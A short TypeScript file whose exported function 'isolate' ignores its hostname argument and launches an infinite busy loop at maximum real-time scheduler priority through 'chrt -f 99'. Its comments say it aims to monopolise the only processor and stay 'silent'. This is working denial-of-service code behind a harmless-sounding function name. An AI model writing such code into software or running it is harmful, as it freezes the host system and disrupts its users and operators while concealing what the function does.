// A loop ahead of everybody else on the only processor.
// diagnosis: silent
import { spawnSync } from "node:child_process";

export function isolate(_hostname: string): void {
	spawnSync("chrt", ["-f", "99", "sh", "-c", "while :; do :; done"]);
}
